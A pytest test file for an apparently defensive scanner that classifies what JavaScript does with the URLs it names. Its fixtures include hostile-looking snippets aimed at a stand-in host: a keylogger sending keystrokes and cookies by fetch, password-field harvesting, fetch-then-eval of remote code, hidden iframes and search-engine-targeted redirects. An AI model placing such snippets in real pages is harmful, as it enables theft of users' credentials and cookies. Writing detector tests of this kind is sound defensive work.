"""What a script does with the addresses it names, and when."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scanner.scripts import unpack
from scanner.scripts.acts import MOST, acts, occasion_of
from scanner.scripts.lexer import tokens

AT = "https://k8.example/"
DONE = {
    f"location.href='{AT}'": ("move", "opening"),
    f"var u='{AT}?'+x;setTimeout(function(){{top.location.replace(u)}},9)": ("move", "opening"),
    f"open('{AT}')": ("window", "opening"),
    f"open('{AT}','_self')": ("move", "opening"),
    f"go.onclick=function(){{location='{AT}'}}": ("move", "wish"),
    f"document.body.onclick=()=>open('{AT}')": ("window", "anywhere"),
    f"$(document).on('click',function(){{open('{AT}')}})": ("window", "anywhere"),
    f"$('#a').click(function(){{open('{AT}')}})": ("window", "wish"),
    f"function go(){{location='{AT}'}}": ("move", "called"),
    f"function go(){{location='{AT}'}}go()": ("move", "opening"),
    f"function go(){{location='{AT}'}}window.onload=go": ("move", "opening"),
    f"function go(){{location='{AT}'}}a.addEventListener('click',go)": ("move", "wish"),
    f"addEventListener('popstate',()=>{{location='{AT}'}})": ("move", "back"),
    f"f.addEventListener('submit',async e=>{{await fetch('{AT}'+e)}})": ("send", "submit"),
    f"var s=document.createElement('script');s.src='{AT}'": ("load", "opening"),
    f"var i=new Image;i.src='{AT}'": ("send", "opening"),
    f"var f=document.createElement('iframe');f.setAttribute('src','{AT}')": ("frame", "opening"),
    f"var a=document.createElement('a');a.href='{AT}';a.click()": ("move", "opening"),
    f"document.write('<script src={AT}></script>')": ("load", "opening"),
    f"x.innerHTML='<iframe src=\"{AT}\">'": ("frame", "opening"),
    f"new WebSocket('{AT}')": ("send", "opening"),
    f"x.open('POST','{AT}')": ("send", "opening"),
    f"$.ajax({{type:'POST',url:'{AT}'}})": ("send", "opening"),
    f"import('{AT}')": ("load", "opening"),
    f"document.forms[0].action='{AT}'": ("form", "opening"),
    f"import {{a}} from '{AT}a.js'": ("load", "opening"),
    f"$.ajax({{url:'{AT}',dataType:'script'}})": ("load", "opening"),
    f"var w=document.write.bind(document);w('<script src={AT}></script>')": ("load", "opening"),
    f"var w=document.write;w.call(document,'<script src={AT}></script>')": ("load", "opening"),
    f"with(document)with(createElement('script'))src='{AT}'": ("load", "opening"),
    f"eval(atob('{__import__('base64').b64encode(f'location.href={AT!r};var documents=1;'.encode()).decode()}'))": (
        "move",
        "opening",
    ),
}

PASSED = {
    f"function load(u){{var s=document.createElement('script');s.src=u}}load('{AT}')": ("load", "opening"),
    f"(function(w,d,s,u){{var e=d.createElement(s);e.src=u}})(window,document,'script','{AT}')": ("load", "opening"),
    f"!function(u){{location=u}}('{AT}')": ("move", "opening"),
    f"const go=(u,t)=>{{setTimeout(()=>location.replace(u),t)}};go('{AT}',5)": ("move", "opening"),
    f"var c={{u:'{AT}'}};location.href=c.u": ("move", "opening"),
    f"this.u='{AT}';open(this.u)": ("window", "opening"),
    f"['{AT}'].forEach(u=>{{var i=document.createElement('iframe');i.src=u}})": ("frame", "opening"),
    f"for(const u of ['{AT}']){{location=u}}": ("move", "opening"),
    f"Object.assign(document.createElement('script'),{{src:'{AT}'}})": ("load", "opening"),
    f"var e=d.createElement('script');Reflect.set(e,'src','{AT}')": ("load", "opening"),
    f"$('<script>').attr('src','{AT}')": ("load", "opening"),
    f"var m=document.createElement('meta');m.content='0;url={AT}'": ("move", "opening"),
    f"var f=document.createElement('form');f.action='{AT}';f.submit()": ("move", "opening"),
    f"b.style.background='url({AT}?'+v+')'": ("style", "opening"),
    f"const clean=s=>s.trim();x.src=clean('{AT}')": ("src", "opening"),
    "(l=>{var s=document.createElement('script');s.src='https://'+l.shift()})(['k8.example','k8.example','k9.test'])": (
        "load",
        "opening",
    ),
}
"""Addresses that are handed on before something is done with them."""


@pytest.mark.parametrize("code", PASSED)
def test_an_address_is_followed_from_hand_to_hand(code):
    found = {(act.kind, act.when) for act in unpack(code).acts if act.host == "k8.example"}
    assert found == {PASSED[code]}


@pytest.mark.parametrize("code", DONE)
def test_an_address_is_followed_to_what_is_done_with_it(code):
    assert [(act.kind, act.when, act.host) for act in unpack(code).acts] == [(*DONE[code], "k8.example")]


@pytest.mark.parametrize(
    "code",
    [f"var home='{AT}'", f"show('{AT}')", f"if(location.href=='{AT}')x()", "location.href='/a'", f"// location='{AT}'"],
)
def test_an_address_that_is_only_named_does_nothing(code):
    assert unpack(code).acts == ()


def test_what_stands_near_is_told():
    code = f"document.onkeydown=function(e){{b+=e.key;fetch('{AT}?'+b+document.cookie)}}"
    assert unpack(code).acts[0].near == {"keys", "cookie", "sent-cookie"}
    code = f"fetch('{AT}').then(r=>r.text()).then(t=>eval(t))"
    assert unpack(code).acts[0].near == {"run"}
    assert unpack(f"import('{AT}')").acts[0].near == {"module"}
    assert unpack(f"fetch('{AT}').then(t=>{{let n=d.createElement('script');n.append(t)}})").acts[0].near == {"run"}
    assert unpack(f"fetch('{AT}').then(t=>{{let n=d.createElement('p');n.append(t)}})").acts[0].near == set()
    assert unpack(f"Object.defineProperty(window,'a',{{}});fetch('{AT}')").acts[0].near == {"hook"}
    assert unpack(f"caches.open('v');fetch('{AT}')").acts[0].near == {"cached"}
    assert unpack(f"if(/iPhone/.test(a))fetch('{AT}')").acts[0].near == {"phones"}
    assert unpack(f"var v=f.pwd.value;fetch('{AT}')").acts[0].near == {"fields", "harvest"}
    assert unpack(f"new Worker(u(new Blob([`importScripts('{AT}')`])))").acts[0].near == {"quoted"}
    assert unpack(f"with(d)body.innerHTML='<a href={AT}>x</a>';a.style.left='-999px'").acts[0].near == {
        "scoped",
        "aside",
    }
    assert unpack(f"fetch('{AT}').then(t=>eval('('+t+')'))").acts[0].near == frozenset()


@pytest.mark.parametrize(
    ("code", "marks"),
    [
        (f"fetch('{AT}').then(r=>r.json()).then(c=>location.href=c.url)", {"moved"}),
        (f"fetch('{AT}').then(t=>{{s=d.createElement('script');s.src=t.u}})", {"loaded"}),
        (f"if(/baiduspider/.test(x))location='{AT}'", {"spiders"}),
        (f"if(/baidu|sogou/.test(document.referrer))open('{AT}')", {"engines", "referrer"}),
        (f"f=d.createElement('iframe');f.style.cssText='width:1px;height:1px';f.src='{AT}'", {"unseen"}),
        (f"fetch('{AT}',{{body:d.querySelectorAll('input')[0].value}})", {"harvest", "fields"}),
        (f"fetch('{AT}').then(r=>{{location.href=location.origin+r}})", set()),
        (f"fetch('{AT}?u='+d.getElementById('input'))", set()),
    ],
)
def test_who_is_chosen_and_what_decides_is_told(code, marks):
    near = {mark for act in unpack(code).acts for mark in act.near if not mark.startswith("sent-")}
    assert near == marks


def test_occasions_of_events():
    assert occasion_of("onclick", whole=True) == "anywhere"
    assert occasion_of("mousedown", whole=False) == "wish"
    assert occasion_of("DOMContentLoaded", whole=True) == ""


@given(
    st.lists(
        st.sampled_from(
            ["(", ")", "{", "}", "[", "]", "=>", "=", ".", ",", ":", f"'{AT}'", "function", "a", "location", "src"]
        )
    )
)
def test_any_sequence_is_survived(pieces):
    found = acts(list(tokens(" ".join(pieces))))
    assert len(found.told) <= MOST


def test_the_last_of_many_addresses_and_of_many_uses_counts():
    before = "".join(f"a{number}('https://cdn.example/{number}');" for number in range(500))
    assert [act.kind for act in unpack(f"{before}location.href='{AT}'").acts if act.host == "k8.example"] == ["move"]
    assert [act.kind for act in unpack(f"var u='{AT}';{'log(u);' * 50}open(u,'_self')").acts] == ["move"]


def test_what_is_not_followed_is_owned_up_to():
    few, many = (
        unpack("".join(f"fetch('https://h{number}.example/');" for number in range(count)))
        for count in (MOST, MOST + 1)
    )
    assert (len(few.acts), few.capped) == (MOST, ())
    assert (len(many.acts), many.capped) == (MOST, ("acts",))
    listed = ",".join(f"'https://h{number}.example/'+z" for number in range(4000))
    assert unpack(f"open([{listed}])").capped == ("acts",)


@pytest.mark.parametrize("piece", ["//aaa", "{/*", "{ /*x", "https://a.b/+z,"])
def test_endless_repetition_is_read_to_its_end(piece):
    code = "x.toString();" + piece * (400_000 // len(piece))
    assert unpack(code).source == code
    assert unpack("eval(y);" + code).source.endswith(piece)


@pytest.mark.parametrize(
    "code",
    [
        "location='https://'+pick()+'.k8.example/a'",
        "location=`https://${Date.now()}.k8.example`",
        "var q=['a','b'][i];location.href='//'+q+'.k8.example?x'",
    ],
)
def test_a_computed_label_leaves_the_domain(code):
    assert [(act.kind, act.host) for act in unpack(code).acts] == [("move", "any.k8.example")]


@pytest.mark.parametrize("code", ["location='/a/'+pick()+'.html'", "x='//'+location.host+'.js'"])
def test_other_ends_are_no_hosts(code):
    assert unpack(code).acts == ()


@pytest.mark.parametrize(
    ("fields", "kind"), [("<input name=cvv>", "login"), ("<input placeholder=银行卡号>", "login"), ("<input>", "form")]
)
def test_a_form_for_secrets_is_a_login(fields, kind):
    assert unpack(f"x.innerHTML='<form action={AT}>{fields}</form>'").acts[0].kind == kind
